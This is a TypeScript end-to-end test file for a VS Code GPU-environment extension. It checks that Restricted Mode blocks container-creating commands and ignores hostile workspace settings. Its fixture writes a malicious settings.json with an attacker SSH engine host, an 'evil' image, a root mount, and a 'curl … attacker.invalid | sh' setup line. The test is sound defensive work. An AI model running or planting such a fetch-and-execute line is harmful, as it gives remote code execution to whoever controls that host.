// The product in Restricted Mode: the folder is opened and the trust dialog answered "No".
// gpu-env declares `capabilities.untrustedWorkspaces.supported: "limited"`, so the extension stays
// enabled and its commands stay in the palette; the ones that create containers or run code refuse
// with an error naming the command (src/vscode/trust.ts), and nothing reaches the engine.
//
// Screenshots: test-artifacts/e2e/product-untrusted.png (the refusal),
// product-untrusted.manage-trust.png (its "Manage Workspace Trust" button opened the trust editor).
//
// Journeys 3b and 3c: a folder whose .vscode/settings.json points gpuEnv.engineHost at a real sshd
// on 127.0.0.1 (Debian's, logging every connection) and sets the image, the mounted folder, the
// cluster's setup lines and autoStart — written flat (3b) and as nested objects (3c). In Restricted
// Mode every palette command of gpu-env runs and none reaches that sshd or makes a container; once
// the folder is trusted, Start goes for that host (the control that shows VS Code read them).
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import {
  clearNotifications,
  clickNotificationButton,
  getNotifications,
  getStatusBarItems,
  isCommandAvailable,
  isRestrictedMode,
  runCommand,
  screenshot,
  trustWorkspace,
  viewLocator,
  waitForNotification,
  waitForStatusBarItem,
} from '../browser';
import { runJourney } from '../journey';
import { sleep } from '../paths';
import { freePort, generateKey, startSshd, type RunningSshd } from '../../integration/remote-sshd';
import {
  BASE_IMAGE,
  buildProductVsix,
  containersWithLabel,
  contributedCommands,
  makeTempDir,
  NAME_LABEL,
  ownedWorkspace,
  productEnv,
  productSettings,
  removeJourneyContainers,
  SKIP_REASON,
  TITLES,
  uniqueEnvName,
  WORKSPACE_LABEL,
} from '../product';

const ENV_NAME = uniqueEnvName('untrusted');

/** Commands that create containers or run code: each refuses in Restricted Mode (src/vscode/trust.ts). */
const TRUST_REQUIRED = new Set([
  'gpuEnv.start',
  'gpuEnv.openTerminal',
  'gpuEnv.attach',
  'gpuEnv.openJupyter',
  'gpuEnv.runDoctor',
  'gpuEnv.trainCnn',
  'gpuEnv.resumeTraining',
  'gpuEnv.syncWorkspace',
]);
/** Hidden from the palette (`when: false`): the views' refresh buttons. */
const NOT_IN_PALETTE = new Set(['gpuEnv.refreshEnvironments', 'gpuEnv.refreshRuns']);
const HOSTILE_IMAGE = 'hostile.invalid/evil:latest';
/** The extension's view container in the activity bar (its label gains a count when it has one). */
const GPU_ACTIVITY_ITEM = '.part.activitybar .action-item a.action-label[aria-label="GPU"], .part.activitybar .action-item a.action-label[aria-label^="GPU ("]';

/**
 * Until the workbench shows the extension's contributions. The palette computes its list when it
 * opens: opened before the installed extension was read (seconds after the page under load), it
 * lacks gpu-env's commands for as long as it stays open.
 */
async function waitForContributions(page: Page): Promise<void> {
  await page.locator(GPU_ACTIVITY_ITEM).first().waitFor({ state: 'visible', timeout: 60_000 });
}

/** What src/vscode/trust.ts shows for a refused command (English; the harness runs VS Code in English). */
function refusal(commandTitle: string): string {
  return `"${commandTitle}" requires a trusted workspace: this workspace's settings choose the Docker engine, the image and the folder to mount. Nothing was started.`;
}

let tmp: string | undefined;
let workspace: string | undefined;
let vsix: string | undefined;
let sshd: RunningSshd | undefined;
const hostileWorkspaces: string[] = [];

/** sshd's "Connection from" lines so far (LogLevel VERBOSE logs one per TCP connection). */
function sshdConnections(): number {
  return (sshd!.log().match(/Connection from /g) ?? []).length;
}

/** What a hostile repository's .vscode/settings.json sets, pointing at the test's sshd. */
function hostileSettings(port: number): Record<string, unknown> {
  return {
    engineHost: `ssh://attacker@127.0.0.1:${port}`,
    baseImage: HOSTILE_IMAGE,
    image: HOSTILE_IMAGE,
    workspaceFolder: '/',
    slurm: { setup: 'curl -fsS https://attacker.invalid/x | sh', sbatchArgs: '--wrap=true' },
    autoStart: true,
  };
}

/** `gpuEnv.engineHost`-style keys at the top level (3b) or `{"gpuEnv": {...}}` (3c). */
function settingsFile(form: 'flat' | 'nested', settings: Record<string, unknown>): string {
  if (form === 'nested') return JSON.stringify({ gpuEnv: settings }, null, 2);
  const flat: Record<string, unknown> = {};
  for (const [key, value] of Object.entries(settings)) {
    if (key === 'slurm') for (const [sub, v] of Object.entries(value as Record<string, unknown>)) flat[`gpuEnv.slurm.${sub}`] = v;
    else flat[`gpuEnv.${key}`] = value;
  }
  return JSON.stringify(flat, null, 2);
}

beforeAll(async () => {
  if (!BASE_IMAGE) {
    console.log(`[product-untrusted] ${SKIP_REASON}`);
    return;
  }
  tmp = makeTempDir('product-untrusted');
  vsix = await buildProductVsix(tmp);
  workspace = ownedWorkspace(tmp, 'workspace', 1234);
  // A real sshd no one is allowed into: the hostile settings' Docker host.
  const hostKey = generateKey(join(tmp, 'hostile_host_key'), 'hostile-sshd').privatePath;
  sshd = await startSshd({ dir: tmp, port: await freePort(), hostKey, dockerHost: 'unix:///nonexistent.sock', logName: 'hostile-sshd.log' });
}, 240_000);

afterAll(async () => {
  await sshd?.stop();
  if (BASE_IMAGE) {
    const removed = await removeJourneyContainers([ENV_NAME], [...(workspace ? [workspace] : []), ...hostileWorkspaces, '/']);
    if (removed.length > 0) console.log(`[product-untrusted] removed containers (there should have been none): ${removed.join(', ')}`);
  }
  if (tmp) rmSync(tmp, { recursive: true, force: true, maxRetries: 3 });
}, 120_000);

describe('gpu-env product journeys (untrusted workspace)', () => {
  it('3. Restricted Mode: Start and Open Terminal are refused with the trust message, no container is created', async (ctx) => {
    if (!BASE_IMAGE) ctx.skip(SKIP_REASON);
    const noContainers = async () => {
      expect(await containersWithLabel(NAME_LABEL, ENV_NAME)).toEqual([]);
      expect(await containersWithLabel(WORKSPACE_LABEL, workspace!)).toEqual([]);
    };
    await runJourney(
      {
        name: 'product-untrusted',
        vsix: vsix!,
        folder: workspace!,
        trust: 'restricted',
        env: productEnv(),
        settings: productSettings(ENV_NAME),
        finalScreenshot: false,
        timeoutMs: 4 * 60_000,
      },
      async ({ name, page }) => {
        await waitForStatusBarItem(page, 'Restricted Mode');
        expect(await isRestrictedMode(page)).toBe(true);
        await noContainers();
        await waitForContributions(page);

        // "limited" support: the extension is enabled and the command is in the palette.
        expect(await isCommandAvailable(page, TITLES.start, 10_000)).toBe(true);
        await runCommand(page, TITLES.start);
        const toast = await waitForNotification(page, refusal('Start GPU Environment'), { timeoutMs: 30_000 });
        expect(await toast.locator('.codicon-error').count()).toBeGreaterThan(0);
        const shown = (await getNotifications(page)).find((n) => n.message === refusal('Start GPU Environment'));
        expect(shown?.buttons).toEqual(['Manage Workspace Trust']);
        // No progress notification either ("Starting GPU environment ...").
        expect((await getNotifications(page)).some((n) => /Starting GPU environment/i.test(n.message))).toBe(false);

        // The Environments view still lists (read-only) in Restricted Mode; show it for the picture.
        await page.locator(GPU_ACTIVITY_ITEM).first().click();
        await viewLocator(page, 'Environments').waitFor({ state: 'visible', timeout: 30_000 });
        await page.mouse.move(700, 450); // no activity-bar hover in the picture

        // Give a (wrongly) started creation time to reach the engine, then check: nothing.
        await sleep(5_000);
        await noContainers();
        expect((await getStatusBarItems(page)).some((i) => i.text.startsWith('GPU: '))).toBe(false);
        await screenshot(page, name);

        // Open Terminal is refused the same way.
        await clearNotifications(page);
        await runCommand(page, TITLES.openTerminal);
        await waitForNotification(page, refusal('Open Terminal in GPU Environment'), { timeoutMs: 30_000 });
        await noContainers();

        // The refusal's button opens the Workspace Trust editor (and trusts nothing by itself).
        await clickNotificationButton(page, refusal('Open Terminal in GPU Environment'), 'Manage Workspace Trust');
        await page.locator('.workspace-trust-editor').waitFor({ state: 'visible', timeout: 30_000 });
        expect(await isRestrictedMode(page)).toBe(true);
        await screenshot(page, name, 'manage-trust');
        await noContainers();
      },
    );
  }, 5 * 60_000);

  it.for<[string, 'flat' | 'nested']>([
    ['b', 'flat'],
    ['c', 'nested'],
  ])(
    '3%s. Restricted Mode: hostile workspace settings written %s reach no engine: every command runs, none connects to their sshd or makes a container; trusted, Start goes for their host',
    { timeout: 7 * 60_000 },
    async ([, form], ctx) => {
      if (!BASE_IMAGE) ctx.skip(SKIP_REASON);
      const folder = ownedWorkspace(tmp!, `hostile-${form}`, 1234);
      hostileWorkspaces.push(folder);
      mkdirSync(join(folder, '.vscode'), { recursive: true });
      writeFileSync(join(folder, '.vscode', 'settings.json'), settingsFile(form, hostileSettings(sshd!.port)));
      const connectionsBefore = sshdConnections();
      const nothingMade = async () => {
        expect(await containersWithLabel(NAME_LABEL, ENV_NAME)).toEqual([]);
        expect(await containersWithLabel(WORKSPACE_LABEL, folder)).toEqual([]);
        expect(await containersWithLabel(WORKSPACE_LABEL, '/')).toEqual([]);
      };
      const palette = contributedCommands().filter((c) => !NOT_IN_PALETTE.has(c.id));
      expect(palette.filter((c) => TRUST_REQUIRED.has(c.id)).length).toBe(TRUST_REQUIRED.size);
      await runJourney(
        {
          name: `product-untrusted-${form}-settings`,
          vsix: vsix!,
          folder,
          trust: 'restricted',
          env: productEnv(),
          settings: productSettings(ENV_NAME),
          finalScreenshot: false,
          timeoutMs: 6 * 60_000,
        },
        async ({ name, page }) => {
          await waitForStatusBarItem(page, 'Restricted Mode');
          await waitForContributions(page);
          // Every command of the palette; those that run code refuse with the trust message, the
          // others (stop, remove, logs, dashboard...) act only on the user's own engine.
          for (const command of palette) {
            await clearNotifications(page);
            await runCommand(page, command.paletteTitle);
            if (TRUST_REQUIRED.has(command.id)) {
              await waitForNotification(page, refusal(command.title), { timeoutMs: 30_000 });
            } else {
              await sleep(1_500);
            }
            // Whatever the command asked (a quick pick, an input), the answer is no.
            await page.keyboard.press('Escape');
            await page.keyboard.press('Escape');
          }
          await sleep(5_000);
          expect(sshdConnections(), sshd!.log()).toBe(connectionsBefore);
          await nothingMade();
          await screenshot(page, name);

          // The controls. The sshd's log does record connections: its readiness probe's is there.
          expect(connectionsBefore, sshd!.log()).toBeGreaterThan(0);
          // Trusted, the same settings are the ones in force: Start goes for their engine host. It
          // connects when this machine has an SSH identity (the unknown host key stops it there), or
          // fails naming that host when it has none; either way nothing is created.
          await clearNotifications(page);
          await trustWorkspace(page);
          await runCommand(page, TITLES.start);
          const hostile = `attacker@127.0.0.1:${sshd!.port}`;
          const deadline = Date.now() + 60_000;
          let reached = false;
          while (!reached && Date.now() < deadline) {
            const named = (await getNotifications(page)).some((n) => n.message.includes(hostile));
            reached = named || sshdConnections() > connectionsBefore;
            if (!reached) await sleep(500);
          }
          expect(reached, `trusted: Start neither named ${hostile} nor connected to it (${form})`).toBe(true);
          await screenshot(page, name, 'trusted');
          await page.keyboard.press('Escape');
          await nothingMade();
        },
      );
    },
  );
});
